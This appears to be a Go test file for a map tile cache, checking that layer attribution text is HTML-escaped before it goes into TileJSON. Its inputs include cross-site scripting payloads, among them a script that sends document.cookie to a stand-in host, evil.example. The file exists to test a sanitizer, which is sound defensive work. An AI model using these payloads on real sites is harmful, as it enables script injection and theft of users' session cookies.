package discovery

import (
	"encoding/json"
	"strings"
	"testing"

	"tilecache/internal/tilestore"
)

func TestSafeAttribution(t *testing.T) {
	for in, want := range map[string]string{
		"tilecache test pattern":                                  "tilecache test pattern",
		"&copy; OpenStreetMap contributors":                       "&copy; OpenStreetMap contributors",
		"&#169; &#xA9; A & B":                                     "&#169; &#xA9; A &amp; B",
		`<a href="https://osm.org/copyright">&copy; OSM</a>`:      `<a href="https://osm.org/copyright">&copy; OSM</a>`,
		`<A HREF="http://x.org/?a=1&amp;b=2">x</A>`:               `<a href="http://x.org/?a=1&amp;b=2">x</a>`,
		`<script>alert(1)</script>`:                               `&lt;script&gt;alert(1)&lt;/script&gt;`,
		`<img src=x onerror="alert(1)">`:                          `&lt;img src=x onerror=&#34;alert(1)&#34;&gt;`,
		`<a href="javascript:alert(1)">x</a>`:                     `&lt;a href=&#34;javascript:alert(1)&#34;&gt;x&lt;/a&gt;`,
		`<a href="https://x.org" onclick="alert(1)">x</a>`:        `&lt;a href=&#34;https://x.org&#34; onclick=&#34;alert(1)&#34;&gt;x&lt;/a&gt;`,
		`<a href="https://x.org/"><a href="https://y.org/">y</a>`: `<a href="https://x.org/">&lt;a href=&#34;https://y.org/&#34;&gt;y</a>`,
		`<a href="https://x.org/">open`:                           `<a href="https://x.org/">open</a>`,
		`</a>'`:                                                   `&lt;/a&gt;&#39;`,
	} {
		if got := safeAttribution(in); got != want {
			t.Errorf("safeAttribution(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestTileJSONAttributionIsNotMarkup: a layer's attribution holding a
// script is written to TileJSON as text a map client shows, not as markup
// it runs; a link is kept.
func TestTileJSONAttributionIsNotMarkup(t *testing.T) {
	forEachStore(t, func(t *testing.T, s tilestore.Store) {
		layers := strings.Replace(testLayers, "attribution: tilecache test pattern",
			`attribution: '<a href="https://example.org/">Example</a> <script>fetch("https://evil.example/"+document.cookie)</script>'`, 1)
		p, _ := newTestPublisher(s, testCatalogue(t, layers), prefix, "")
		if _, err := p.Ensure(t.Context(), "demo:world", "EPSG:900913", "image/png", nil); err != nil {
			t.Fatal(err)
		}
		for _, name := range []string{tileJSONName, tileJSONXYZName} {
			data, _ := mustGet(t, s, prefix+"/demo:world/EPSG:900913/png/default/"+name)
			var tj struct{ Attribution string }
			if err := json.Unmarshal(data, &tj); err != nil {
				t.Fatal(err)
			}
			want := `<a href="https://example.org/">Example</a> &lt;script&gt;fetch(&#34;https://evil.example/&#34;+document.cookie)&lt;/script&gt;`
			if tj.Attribution != want {
				t.Errorf("%s attribution: got %q, want %q", name, tj.Attribution, want)
			}
		}
	})
}
